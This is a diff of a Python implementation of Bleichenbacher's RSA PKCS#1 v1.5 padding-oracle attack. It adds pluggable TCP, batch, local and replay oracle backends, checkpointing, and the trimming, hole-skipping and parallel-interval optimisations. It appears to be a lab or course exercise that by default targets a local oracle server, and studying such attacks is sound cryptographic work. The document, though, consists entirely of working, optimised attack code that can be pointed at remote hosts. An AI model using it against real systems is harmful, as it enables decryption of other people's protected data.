@@ -1,16 +1,19 @@
 from Crypto.Util.number import long_to_bytes
-from attack.oracle import oracle, init_oracle, ServerClosed
+from attack.oracle import ServerClosed
+from attack.backends import OracleBackend, TcpBackend, BatchTcpBackend, LocalKeyBackend
 from attack.disjoint_segments import DisjointSegments
+from attack.checkpoint import Checkpointer, load_checkpoint
+from attack.transcript import RecordingOracle, ReplayOracle
 from attack.create_attack_config import get_cipher, get_public
-from random import randint
-from socket import SHUT_RDWR
+from attack.trimming import DEFAULT_TRIMMERS, trim
+from attack.skipping_holes import SkippingHoles
+from utils.attack_utils import ceil_div
+from itertools import chain
+from typing import Iterable, Iterator
+from random import Random
 import argparse
 
 
-def ceil_div(x: int, y: int) -> int:
-    return (x + y - 1) // y
-
-
 def attack_arguments_parser() -> argparse.Namespace:
     """
     Parses command-line arguments for configuring the Bleichenbacher attack.
@@ -36,7 +39,72 @@ def attack_arguments_parser() -> argparse.Namespace:
     )
     parser.add_argument("-p", "--port", help="sets the server's port, defaults to 8001")
     parser.add_argument("--host", help="sets the server's host, defaults to localhost")
+    parser.add_argument(
+        "-u",
+        "--url",
+        help="connects to the server at this URL instead: tcp://host:port, unix://path or shm://path",
+    )
+    parser.add_argument(
+        "-w",
+        "--window",
+        help="number of queries kept in flight on the connection, defaults to 1",
+    )
+    parser.add_argument(
+        "-b",
+        "--batch",
+        help="sends the queries in batches of up to this size instead of one by one",
+    )
+    parser.add_argument(
+        "--key-id",
+        help="picks this key on servers that host several keys",
+    )
+    parser.add_argument(
+        "--public-key",
+        help="the public key file of the attacked key, defaults to public_key.rsa",
+    )
+    parser.add_argument(
+        "--local",
+        action="store_true",
+        help="answers the queries in-process with private_key.rsa instead of a server",
+    )
+    parser.add_argument(
+        "-t",
+        "--trim",
+        nargs="?",
+        const=str(DEFAULT_TRIMMERS),
+        help="trims the possible messages with this many trimmer queries before step 2.a"
+        f" (Bardou et al.), defaults to {DEFAULT_TRIMMERS} when given without a number",
+    )
+    parser.add_argument(
+        "--skip-holes",
+        action="store_true",
+        help="skips the s of steps 2.a and 2.b which cannot be conforming for any message in M",
+    )
+    parser.add_argument(
+        "--parallel-threads",
+        action="store_true",
+        help="searches every interval of M like step 2.c, interleaved, when step 2.b has several intervals",
+    )
+    parser.add_argument(
+        "--checkpoint",
+        help="periodically saves the state of the attack to this file",
+    )
+    parser.add_argument(
+        "--resume",
+        action="store_true",
+        help="continues the attack saved in the checkpoint file",
+    )
+    parser.add_argument(
+        "--record",
+        help="records the oracle's answers to this transcript file",
+    )
+    parser.add_argument(
+        "--replay",
+        help="answers the queries from this transcript file instead of the server",
+    )
     my_args = parser.parse_args()
+    if my_args.resume and not my_args.checkpoint:
+        parser.error("--resume requires --checkpoint")
     return my_args
 
 
@@ -46,32 +114,40 @@ class Attacker:
         N: int,
         E: int,
         ct: int,
-        host: str,
-        port: int,
+        backend: OracleBackend,
         random_blinding: bool = False,
         verbose: bool = True,
+        checkpoint: str | None = None,
+        trimmers: int = 0,
+        skip_holes: bool = False,
+        parallel_threads: bool = False,
     ) -> None:
         self.N = N
         self.E = E
         self.ct = ct
         self.C = ct
-        self.host = host
-        self.port = port
-        self.conn = init_oracle(host, port)
+        self.backend = backend
         self.K = len(long_to_bytes(N))
         self.B = pow(
             2, 8 * (self.K - 2)
         )  # the value of the lsb in the second most significant byte of N
         self.random_blinding = random_blinding
+        self.random = Random(backend.seed)
         self.s_list: list[int] = []
         self.M: DisjointSegments = DisjointSegments(
             [range(2 * self.B, 3 * self.B)]
         )  # ! dangerous
         self.iteration = 1
         self.verbose = verbose
+        self.checkpointer = Checkpointer(checkpoint) if checkpoint else None
+        self.trimmers = trimmers
+        self.skip_holes = skip_holes
+        # candidates skipped in the holes of M, which the linear scan queries
+        self.skipped = 0
+        self.parallel_threads = parallel_threads
 
     def oracle(self, num: int) -> bool:
-        return oracle(num, self.conn)
+        return self.backend.oracle(num)
 
     # & maybe for them to do
     def s_oracle(self, s: int) -> bool:
@@ -79,29 +155,44 @@ class Attacker:
 
     # & maybe for them to do
     def blinding(self) -> tuple[int, int]:
-        for i in range(1, self.N):
-            s0 = randint(1, self.N - 1) if self.random_blinding else i
-            self.C = self.ct * pow(s0, self.E, self.N) % self.N
-            if self.oracle(self.C):
-                self.s0 = s0
-                self.s_list.append(s0)
-                return self.C, s0
+        candidates = (
+            self.random.randint(1, self.N - 1) if self.random_blinding else i
+            for i in range(1, self.N)
+        )
+        try:
+            s0 = self.backend.search(self.ct, candidates)
+        except ValueError:
+            raise ValueError("blinding failed")
 
-        raise ValueError("blinding failed")
+        self.C = self.ct * pow(s0, self.E, self.N) % self.N
+        self.s0 = s0
+        self.s_list.append(s0)
+        return self.C, s0
 
-    def find_next_conforming(self, start: int) -> int:
-        ctr = 0
-        for s in range(start, self.N):
-            ctr += 1
-            if self.s_oracle(s):
-                return s
-            if ctr % 10_000 == 0 and self.verbose:
-                print(f"sent {ctr} queries")
+    def trim(self) -> range:
+        """
+        Trims M before step 2.a with `trimmers` queries, see `attack.trimming`.
+        """
+        interval = trim(self.backend, self.C, self.N, self.B, self.trimmers)
+        self.M = DisjointSegments([interval])
+        return interval
 
-        raise ValueError("no next conforming")
+    def find_next_conforming(self, start: int) -> int:
+        candidates: Iterable[int] = range(start, self.N)
+        if self.skip_holes:
+            candidates = SkippingHoles(self.M, self.B, self.N, start)
+        try:
+            s = self.backend.search(self.C, candidates)
+        except ValueError:
+            raise ValueError("no next conforming")
+        if isinstance(candidates, SkippingHoles):
+            self.skipped += candidates.skipped_below(s)
+        return s
 
     def search_start(self) -> int:
-        s1 = self.find_next_conforming(self.N // (3 * self.B) + 1)
+        # the smallest s for which m0 * s can wrap around N into [2B, 3B), for every m0 in M
+        b = self.M.smallest_inclusive().stop - 1
+        s1 = self.find_next_conforming(ceil_div(self.N + 2 * self.B, b))
         self.s_list.append(s1)
         return s1
 
@@ -109,25 +200,50 @@ class Attacker:
         """
         This function is used to search for the next s_i in the case where there are multiple intervals in M.
         """
+        if self.parallel_threads:
+            return self.search_parallel_threads()
         s_i = self.find_next_conforming(self.s_list[-1] + 1)
         self.s_list.append(s_i)
         return s_i
 
+    def search_parallel_threads(self) -> int:
+        """
+        This function is used to search for the next s_i in the case where there are multiple intervals in M,
+        by searching every interval as in step 2.c and trying their candidates in turn (Klima, Pokorny and Rosa).
+        """
+        threads = [self.interval_candidates(interval) for interval in self.M]
+        try:
+            s_i = self.backend.search(self.C, chain.from_iterable(zip(*threads)))
+        except ValueError:
+            raise ValueError("the range of r search need to be bigger")
+        self.s_list.append(s_i)
+        return s_i
+
+    def interval_candidates(self, interval: range) -> Iterator[int]:
+        """
+        This function yields the candidates for the next s_i of step 2.c, for the blinded message in `interval`.
+        """
+        a, b = interval.start, interval.stop - 1
+        return (
+            s_i
+            for r_i in range(
+                2 * ceil_div(b * self.s_list[-1] - 2 * self.B, self.N), self.N
+            )
+            if (s_i := ceil_div(2 * self.B + r_i * self.N, b)) * a
+            < (3 * self.B + r_i * self.N)
+        )
+
     def search_single_interval(self, interval: range):
         """
         This function is used to search for the next s_i in the case where there is only one interval in M.
         """
-        a, b = interval.start, interval.stop - 1
-        for r_i in range(
-            2 * ceil_div(b * self.s_list[-1] - 2 * self.B, self.N), self.N
-        ):
-            s_i = ceil_div(2 * self.B + r_i * self.N, b)
-            if s_i * a < (3 * self.B + r_i * self.N):
-                if self.s_oracle(s_i):
-                    self.s_list.append(s_i)
-                    return s_i
+        try:
+            s_i = self.backend.search(self.C, self.interval_candidates(interval))
+        except ValueError:
+            raise ValueError("the range of r search need to be bigger")
 
-        raise ValueError("the range of r search need to be bigger")
+        self.s_list.append(s_i)
+        return s_i
 
     def search(self):
         """
@@ -143,7 +259,7 @@ class Attacker:
         else:
             assert len(self.M) == 1
             # step 2.c
-            self.search_single_interval(list(self.M)[0])
+            self.search_single_interval(self.M.first())
 
     def update_intervals(self, s_i: int) -> DisjointSegments:
         """
@@ -187,9 +303,9 @@ class Attacker:
 
             # step 4
             if len(self.M) == 1:
-                M_lst: list[range] = list(iter(self.M))
-                if M_lst[0].stop - M_lst[0].start <= 1:
-                    return True, M_lst[0]  # found solution
+                interval = self.M.first()
+                if interval.stop - interval.start <= 1:
+                    return True, interval  # found solution
 
             return False, self.M
 
@@ -198,16 +314,29 @@ class Attacker:
 
     def attack(self) -> tuple[range, int]:
         print("started attack")
-        self.blinding()
-        print("did blinding")
+        if not self.s_list:
+            self.blinding()
+            print("did blinding")
+            if self.trimmers:
+                self.trim()
+                print(f"trimmed to {self.M.size()} possible messages")
+            if self.checkpointer:
+                self.checkpointer.save(self)
+        else:
+            print(f"resumed at iteration number: {self.iteration}")
         while True:
             res, ans = self.algo_iteration()
             if res:
                 assert isinstance(ans, range)
-                self.conn.shutdown(SHUT_RDWR)
-                self.conn.close()
+                if self.checkpointer:
+                    self.checkpointer.save(self)
+                if self.skip_holes:
+                    print(f"skipped {self.skipped} candidates in the holes of M")
+                self.backend.close()
                 return ans, self.s0
             self.iteration += 1
+            if self.checkpointer:
+                self.checkpointer.maybe_save(self)
 
 
 if __name__ == "__main__":
@@ -221,17 +350,62 @@ if __name__ == "__main__":
     if my_args.host:
         host = my_args.host
 
-    N, E = get_public()
-    C = get_cipher("hello world")
+    port_or_url: int | None = port
+    if my_args.url:
+        host, port_or_url = my_args.url, None
+
+    window: int = 1
+    if my_args.window and my_args.window.isdecimal():
+        window = int(my_args.window)
+
+    batch_size: int = 0
+    if my_args.batch and my_args.batch.isdecimal():
+        batch_size = int(my_args.batch)
+
+    trimmers: int = 0
+    if my_args.trim and my_args.trim.isdecimal():
+        trimmers = int(my_args.trim)
+
+    public_key = "public_key.rsa"
+    if my_args.public_key:
+        public_key = my_args.public_key
+
+    if my_args.resume:
+        checkpoint = load_checkpoint(my_args.checkpoint)
+        N, E, C = checkpoint.N, checkpoint.E, checkpoint.ct
+    else:
+        N, E = get_public(public_key)
+        C = get_cipher("hello world", public_key)
+    backend: OracleBackend
+    if my_args.replay:
+        backend = ReplayOracle(my_args.replay)
+        C = backend.ciphertext
+    elif my_args.local:
+        backend = LocalKeyBackend.from_file("private_key.rsa")
+    elif batch_size:
+        backend = BatchTcpBackend(
+            N, E, host, port_or_url, batch_size, my_args.verbose, my_args.key_id
+        )
+    else:
+        backend = TcpBackend(
+            N, E, host, port_or_url, window, my_args.verbose, my_args.key_id
+        )
+    if my_args.record:
+        backend = RecordingOracle(backend, my_args.record)
     attacker = Attacker(
         N,
         E,
         C,
-        host,
-        port,
+        backend,
         my_args.random,
         my_args.verbose,
+        my_args.checkpoint,
+        trimmers,
+        my_args.skip_holes,
+        my_args.parallel_threads,
     )
+    if my_args.resume:
+        checkpoint.restore(attacker)
 
     res_range, s0 = attacker.attack()
     res = res_range.start